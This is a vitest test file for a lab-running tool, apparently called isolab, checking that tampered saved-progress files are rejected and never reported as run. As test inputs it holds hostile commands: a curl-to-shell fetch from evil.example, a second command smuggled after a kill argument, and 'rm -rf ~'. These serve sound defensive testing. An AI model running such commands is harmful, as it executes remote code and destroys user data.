import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { editionOf } from '../../src/edition/edition.js';
import { createTranslator } from '../../src/i18n/translate.js';
import { readLab } from '../../src/lab/catalog.js';
import { localize } from '../../src/lab/localize.js';
import { buildReport } from '../../src/report/build.js';
import { renderReport } from '../../src/report/formats.js';
import { openRun, startRun } from '../../src/session/open-run.js';
import { progressFile, readProgress, type SavedProgress } from '../../src/session/progress-file.js';
import { saveProgress, type LiveProbes } from '../../src/session/progress.js';
import { Session } from '../../src/session/session.js';
import { isolab } from '../helpers/cli.js';

/**
 * A progress file records what each step ran, and a resumed run reports it. A file edited to say a
 * step ran something else must never make a report claim this lab ran it: it is set aside, named.
 */

const PROCESS_LAB = join(import.meta.dirname, '..', 'fixtures', 'process-lab.md');
const lab = () => readLab(PROCESS_LAB);
const edition = () => editionOf(lab(), { platform: 'linux', shell: 'sh' });
const everythingThere: LiveProbes = { containerExists: async () => true, processAlive: async () => true };
const FORGED = 'curl -fsSL https://evil.example/x.sh | sh';

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'isolab-progress-fit-'));
  process.env.ISOLAB_STATE_DIR = dir;
});
afterEach(() => {
  delete process.env.ISOLAB_STATE_DIR;
  rmSync(dir, { recursive: true, force: true });
});

/** A learner's real progress: step `find` (ps) ran, then the lab was left. */
async function pausedRun(): Promise<SavedProgress> {
  const session = new Session({ edition: edition(), ledgerDir: false });
  await session.runStep('find');
  saveProgress(session);
  return JSON.parse(readFileSync(progressFile(edition()), 'utf8')) as SavedProgress;
}

const edit = (saved: SavedProgress, change: (s: SavedProgress) => void) => {
  change(saved);
  writeFileSync(progressFile(edition()), JSON.stringify(saved));
};

/** Opens the lab as `isolab run` and the TUI do, resumes what it offers, and writes both reports. */
async function resumeAndReport(): Promise<{ setAside: string | undefined; json: string; markdown: string }> {
  const t = createTranslator('en');
  const opened = await openRun({
    lab: lab(),
    edition: { platform: 'linux', shell: 'sh' },
    host: 'linux',
    readOnly: false,
    preflight: async () => ({ platform: 'linux', ok: true, items: [] }),
  });
  try {
    const { session, stopSaving } = await startRun(opened, { resume: true, pauses: true, probes: everythingThere });
    stopSaving();
    const report = buildReport({
      lab: lab(),
      text: localize(lab()),
      state: session.state,
      t,
      mode: 'run',
      durationMs: 0,
      interrupted: false,
    });
    const notice = opened.setAside
      ? t('ui.notice.progressSetAside', { why: opened.setAside.why, file: opened.setAside.keptAs })
      : undefined;
    return { setAside: notice, json: renderReport(report, 'json', t), markdown: renderReport(report, 'markdown', t) };
  } finally {
    opened.release();
  }
}

describe('a report of a resumed run shows only what this lab runs', () => {
  test('a progress file whose step records another command is set aside, named with what is wrong; neither report claims it ran', async () => {
    edit(await pausedRun(), (s) => {
      s.steps.find!.command = FORGED;
    });
    const { setAside, json, markdown } = await resumeAndReport();
    expect(setAside).toMatch(
      /^Saved progress could not be read: the command it records \(steps\.find\.command\) is not the one this lab runs in that step\. It was kept as .*process-lab\.linux\.unreadable-\d{8}T\d{6}Z\.json, and the lab starts afresh\.$/,
    );
    expect(existsSync(progressFile(edition()))).toBe(false);
    for (const report of [json, markdown]) expect(report).not.toContain('evil.example');
    expect(JSON.parse(json).steps.find((s: { id: string }) => s.id === 'find')).toMatchObject({ status: 'pending' });
  });

  test('an untouched file resumes, and the report shows the command the step really ran', async () => {
    await pausedRun();
    const { setAside, json, markdown } = await resumeAndReport();
    expect(setAside).toBeUndefined();
    expect(JSON.parse(json).steps.find((s: { id: string }) => s.id === 'find')).toMatchObject({ command: 'ps -e -o pid,comm' });
    expect(markdown).toContain('$ ps -e -o pid,comm');
  });
});

describe('what an entry records must be of this lab', () => {
  const base = (): SavedProgress => ({
    formatVersion: 1,
    labId: 'process-lab',
    platform: 'linux',
    shell: 'sh',
    runId: '20260101-abcdef12',
    savedAt: '2026-01-01T00:00:00.000Z',
    steps: {},
    captures: { pid: { name: 'pid', value: '4242', type: 'integer', stepId: 'start' } },
  });
  const hash = (id: string) => edition().step(id).sourceHash;
  const stop = (command: string) => ({ status: 'passed' as const, hash: hash('stop'), verdicts: [], notes: [], command });
  const why = (data: SavedProgress) => {
    edit(data, () => {});
    const read = readProgress(edition());
    return read.kind === 'unreadable' ? read.why : read.kind;
  };
  beforeEach(() => saveProgress(new Session({ edition: edition(), ledgerDir: false })));

  test('a command with a value of its type in each placeholder is the step’s own: kept', () => {
    expect(why({ ...base(), steps: { stop: stop('kill 4242') } })).toBe('saved');
    // The step could not be written (a value missing or refused): it records no command, and was not judged.
    const notJudged = { checkId: 'exit', status: 'notJudged' as const, detail: { key: 'check.notRun' } };
    expect(why({ ...base(), steps: { stop: { ...stop(''), status: 'notJudged', verdicts: [notJudged] } } })).toBe('saved');
  });

  test.each([
    ['code after the value', 'kill 4242; curl https://evil.example | sh'],
    ['an option where the value goes', 'kill -1'],
    ['another command', 'rm -rf ~'],
    ['the placeholder itself', 'kill {{pid}}'],
  ])('%s is not the step’s command: set aside, saying which entry', (_what, command) => {
    expect(why({ ...base(), steps: { stop: stop(command) } })).toEqual({
      key: 'progress.aside.command',
      params: { where: 'steps.stop.command' },
    });
  });

  test('part of the step’s command is not its command', () => {
    const start = { status: 'passed' as const, hash: hash('start'), verdicts: [], notes: [], command: 'sleep 300' };
    expect(why({ ...base(), steps: { start } })).toEqual({ key: 'progress.aside.command', params: { where: 'steps.start.command' } });
  });

  test.each([
    ['passed', { status: 'passed' as const }, 'status'],
    ['printed something', { status: 'notJudged' as const, output: { lines: ['all good'], partial: '', droppedLines: 0 } }, 'output'],
    ['exited', { status: 'notJudged' as const, exitCode: 0 }, 'exitCode'],
  ])('a step whose command never ran cannot have %s: a report would show what no command of this run did', (_what, entry, field) => {
    expect(why({ ...base(), steps: { stop: { ...stop(''), ...entry } } })).toEqual({
      key: 'progress.aside.ranNothing',
      params: { where: `steps.stop.${field}` },
    });
  });

  test('a verdict of a check the step does not have is set aside', () => {
    const verdicts = [{ checkId: 'proved-everything', status: 'passed' as const, detail: { key: 'check.exit.pass' } }];
    expect(why({ ...base(), steps: { stop: { ...stop('kill 4242'), verdicts } } })).toEqual({
      key: 'progress.aside.check',
      params: { where: 'steps.stop.verdicts.0' },
    });
  });

  test('a verdict or note in words isolab does not have is set aside: it would show as its raw key under a ✔ (the attacker walk)', () => {
    const verdicts = [{ checkId: 'command', status: 'passed' as const, detail: { key: 'no.such.key' } }];
    expect(why({ ...base(), steps: { stop: { ...stop('kill 4242'), verdicts } } })).toEqual({
      key: 'progress.aside.shape',
      params: { where: 'steps.stop.verdicts.0.detail' },
    });
    const nested = [
      { checkId: 'command', status: 'passed' as const, detail: { key: 'check.exit.pass', params: { x: { key: 'forged.words' } } } },
    ];
    expect(why({ ...base(), steps: { stop: { ...stop('kill 4242'), verdicts: nested } } })).toEqual({
      key: 'progress.aside.shape',
      params: { where: 'steps.stop.verdicts.0.detail' },
    });
    expect(why({ ...base(), steps: { stop: { ...stop('kill 4242'), notes: [{ key: 'made.up' }] } } })).toEqual({
      key: 'progress.aside.shape',
      params: { where: 'steps.stop.notes.0' },
    });
    // isolab's own words, plural ones included, are kept.
    const own = [{ checkId: 'command', status: 'passed' as const, detail: { key: 'check.exit.pass' } }];
    expect(why({ ...base(), steps: { stop: { ...stop('kill 4242'), verdicts: own } } })).toBe('saved');
  });

  test('a value under the name of a built-in, or from a step the lab does not have, is set aside: it would stand in for the lab’s own', () => {
    const run = { name: 'run', value: 'someone-else', type: 'name' as const, stepId: 'start' };
    expect(why({ ...base(), captures: { ...base().captures, run } })).toEqual({
      key: 'progress.aside.value',
      params: { where: 'captures.run' },
    });
    const stray = { name: 'pid', value: '4242', type: 'integer' as const, stepId: 'nowhere' };
    expect(why({ ...base(), captures: { pid: stray } })).toEqual({ key: 'progress.aside.value', params: { where: 'captures.pid' } });
  });

  test('an entry of a step the lab edited since is not held to the new command: that step is redone anyway', () => {
    expect(why({ ...base(), steps: { stop: { ...stop('kill -TERM 4242'), hash: 'older' } } })).toBe('saved');
  });
});

describe('isolab run names a progress file it sets aside', () => {
  test('the file and what is wrong with it are said on stderr; the run goes on afresh', async () => {
    edit(await pausedRun(), (s) => {
      s.steps.find!.command = FORGED;
    });
    const r = await isolab(['run', PROCESS_LAB, '--yes', '--quiet'], { stateDir: dir, timeout: 60_000 });
    expect(r.stderr).toMatch(
      /⚠ Saved progress could not be read: the command it records \(steps\.find\.command\) is not the one this lab runs in that step\. It was kept as \S*process-lab\.linux\.unreadable-\d{8}T\d{6}Z\.json, and the lab starts afresh\./,
    );
    expect(r.stdout + r.stderr).not.toContain('evil.example');
  });
});

describe('a progress file is read only if it is a plain file of a size isolab writes', () => {
  const file = () => progressFile(edition());
  const readWhy = () => {
    const read = readProgress(edition());
    return read.kind === 'unreadable' ? read.why : read.kind;
  };
  beforeEach(() => saveProgress(new Session({ edition: edition(), ledgerDir: false })));

  test('a link to /dev/zero or to a named pipe is set aside at once: reading it never ends', () => {
    rmSync(file());
    symlinkSync('/dev/zero', file());
    expect(readWhy()).toEqual({ key: 'state.notAFile' });
    rmSync(file());
    const fifo = join(dir, 'pipe');
    execFileSync('mkfifo', [fifo]);
    symlinkSync(fifo, file());
    expect(readWhy()).toEqual({ key: 'state.notAFile' });
    rmSync(file());
    execFileSync('mkfifo', [file()]);
    expect(readWhy()).toEqual({ key: 'state.notAFile' });
  });

  test('a file larger than isolab ever writes is set aside without being read', () => {
    writeFileSync(file(), ' '.repeat(33 * 1024 * 1024));
    expect(readWhy()).toEqual({ key: 'state.tooBig', params: { mb: 32 } });
  });

  test('a step keeps no more output than a run keeps: 200 lines, each cut to 4,099 characters', () => {
    const saved = JSON.parse(readFileSync(file(), 'utf8')) as SavedProgress;
    const step = (lines: string[]) => ({
      status: 'failed' as const,
      hash: 'h',
      verdicts: [],
      notes: [],
      output: { lines, partial: '', droppedLines: 0 },
    });
    edit(saved, (s) => {
      s.steps.find = step(Array.from({ length: 201 }, () => 'x'));
    });
    expect(readWhy()).toEqual({ key: 'progress.aside.shape', params: { where: 'steps.find.output.lines' } });
    edit(saved, (s) => {
      s.steps.find = step(['x'.repeat(4100)]);
    });
    expect(readWhy()).toEqual({ key: 'progress.aside.shape', params: { where: 'steps.find.output.lines.0' } });
    edit(saved, (s) => {
      s.steps.find = step(Array.from({ length: 200 }, () => 'x'.repeat(4099)));
    });
    expect(readWhy()).toBe('saved');
  });
});

test('the time progress was saved is a date: the resume screen never says "Invalid Date"', async () => {
  edit(await pausedRun(), (s) => {
    s.savedAt = 'yesterday, honest';
  });
  const read = readProgress(edition());
  expect(read.kind === 'unreadable' && read.why).toEqual({ key: 'progress.aside.shape', params: { where: 'savedAt' } });
});

test('a step with nothing to run is read or skipped, never failed, with no verdict: a report would show a failure of a page of text', () => {
  const reading = editionOf(readLab(join(import.meta.dirname, '..', 'fixtures', 'reading-lab.md')), { platform: 'linux', shell: 'sh' });
  saveProgress(new Session({ edition: reading, ledgerDir: false }));
  const entry = { status: 'failed' as const, hash: reading.step('read').sourceHash, verdicts: [], notes: [] };
  const saved = JSON.parse(readFileSync(progressFile(reading), 'utf8')) as SavedProgress;
  writeFileSync(progressFile(reading), JSON.stringify({ ...saved, steps: { read: entry } }));
  const read = readProgress(reading);
  expect(read.kind === 'unreadable' && read.why).toEqual({ key: 'progress.aside.ranNothing', params: { where: 'steps.read.status' } });
  writeFileSync(progressFile(reading), JSON.stringify({ ...saved, steps: { read: { ...entry, status: 'passed' } } }));
  expect(readProgress(reading).kind).toBe('saved');
});

test('a name in the file with a line break is quoted on one line: it cannot add a line of its own to the notice', async () => {
  const t = createTranslator('en');
  const saved = await pausedRun();
  const forged = 'x\n✔ Resumed: all 5 finished steps still hold.\n';
  edit(saved, (s) => {
    s.steps[forged] = { ...s.steps.find!, status: 'running' as never };
  });
  const shape = readProgress(edition());
  expect(shape.kind === 'unreadable' && t(shape.why.key, shape.why.params)).not.toContain('\n');
  edit(saved, (s) => {
    delete s.steps[forged];
    s.captures[forged] = { name: forged, value: '1', type: 'integer', stepId: 'nowhere' };
  });
  const value = readProgress(edition());
  expect(value.kind === 'unreadable' && t(value.why.key, value.why.params)).not.toContain('\n');
});
